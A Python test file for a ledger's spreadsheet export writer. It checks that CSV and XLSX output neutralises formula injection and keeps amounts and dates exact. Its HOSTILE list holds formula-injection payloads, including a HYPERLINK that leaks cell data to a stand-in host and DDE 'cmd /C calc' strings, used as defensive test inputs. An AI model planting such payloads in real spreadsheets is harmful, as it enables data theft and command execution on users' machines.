"""The one writer of the CSV and XLSX files the ledger hands out (CONTRACT "Personal data
and hostile input"): no live formula ever, text that would start one is written with a
leading `'`, amounts and dates stay numbers and dates, exactly."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date, datetime
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from adapters.sheets import Sheet, csv_text, xlsx_bytes

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
AMOUNTS = [Decimal("999999999999.99"), Decimal("-50.00"), Decimal("0.10"), Decimal("100000.00")]


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_writes_text_that_would_start_a_formula_with_a_leading_quote(text: str) -> None:
    rows = read_csv(csv_text(["payee"], [[text]]))
    assert rows[1] == ["'" + text]


@pytest.mark.parametrize("text", HOSTILE)
def test_xlsx_writes_text_that_would_start_a_formula_as_text_with_a_leading_quote(
    text: str,
) -> None:
    sheet = load_workbook(io.BytesIO(xlsx_bytes(Sheet("s", [[text]], header=["payee"]))))["s"]
    cell = sheet["A2"]
    assert cell.data_type == "s"
    # XlsxWriter escapes a carriage return as Excel does (_x000D_); openpyxl leaves it so.
    assert cell.value.replace("_x000D_", "\r") == "'" + text


def test_xlsx_amounts_are_numeric_cells_holding_the_exact_amount() -> None:
    content = xlsx_bytes(Sheet("s", [[amount] for amount in AMOUNTS], header=["amount"]))
    sheet = load_workbook(io.BytesIO(content))["s"]
    for row, amount in enumerate(AMOUNTS, start=2):
        cell = sheet.cell(row, 1)
        assert cell.data_type == "n" and cell.number_format == "#,##0.00"
        assert Decimal(repr(cell.value)).quantize(Decimal("0.01")) == amount
    # The file itself holds the decimal digits, not a binary fraction's expansion.
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        xml = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<v>999999999999.99</v>" in xml and "<v>-50.00</v>" in xml


def test_csv_amounts_are_plain_decimals_and_a_negative_amount_is_not_neutralised() -> None:
    rows = read_csv(csv_text(["amount"], [[amount] for amount in AMOUNTS]))
    assert [row[0] for row in rows[1:]] == ["999999999999.99", "-50.00", "0.10", "100000.00"]


def test_dates_are_date_cells_in_xlsx_and_iso_dates_in_csv() -> None:
    content = xlsx_bytes(Sheet("s", [[date(2018, 6, 1)]], header=["date"]))
    cell = load_workbook(io.BytesIO(content))["s"]["A2"]
    assert cell.is_date and cell.value == datetime(2018, 6, 1)
    assert cell.number_format == "yyyy-mm-dd"
    assert read_csv(csv_text(["date"], [[date(2018, 6, 1)]]))[1] == ["2018-06-01"]


def test_integers_are_numbers_none_is_empty_and_the_header_row_is_frozen() -> None:
    content = xlsx_bytes(Sheet("s", [[7, None, "x"]], header=["n", "gap", "text"]))
    sheet = load_workbook(io.BytesIO(content))["s"]
    assert (sheet["A2"].value, sheet["A2"].data_type) == (7, "n")
    assert sheet["B2"].value is None
    assert sheet.freeze_panes == "A2"
    assert read_csv(csv_text(["n", "gap"], [[7, None]]))[1] == ["7", ""]


def test_a_sheet_without_a_header_starts_with_its_first_row() -> None:
    content = xlsx_bytes(Sheet("a", [["x", 1]], header=["h", "n"]), Sheet("b", [["matched", 4]]))
    book = load_workbook(io.BytesIO(content))
    assert (book["b"]["A1"].value, book["b"]["B1"].value) == ("matched", 4)
    assert book["b"].freeze_panes is None


def test_no_cell_of_a_written_workbook_is_a_formula() -> None:
    rows = [
        [text, amount, date(2018, 1, 1), 3]
        for text, amount in zip(HOSTILE, AMOUNTS * 2, strict=False)
    ]
    book = load_workbook(io.BytesIO(xlsx_bytes(Sheet("s", rows, header=HOSTILE[:4]))))
    cells = [cell for row in book["s"].iter_rows() for cell in row]
    assert cells and all(cell.data_type != "f" for cell in cells)


def test_an_amount_beyond_excels_15_digits_is_written_as_its_exact_digits() -> None:
    # No ledger amount comes near (12 integer digits), but a sum over an uploaded file might.
    huge = Decimal("-12345678901234567.89")
    cell = load_workbook(io.BytesIO(xlsx_bytes(Sheet("s", [[huge]]))))["s"]["A1"]
    assert (cell.data_type, cell.value) == ("s", "-12345678901234567.89")
    assert read_csv(csv_text(["v"], [[huge]]))[1] == ["-12345678901234567.89"]


@pytest.mark.parametrize("value", [1.5, True, Decimal("NaN"), Decimal("-Infinity")])
def test_a_float_a_bool_or_a_non_finite_amount_is_refused(value: object) -> None:
    with pytest.raises((TypeError, ValueError)):
        xlsx_bytes(Sheet("s", [[value]]))  # type: ignore[list-item]
    with pytest.raises((TypeError, ValueError)):
        csv_text(["v"], [[value]])  # type: ignore[list-item]
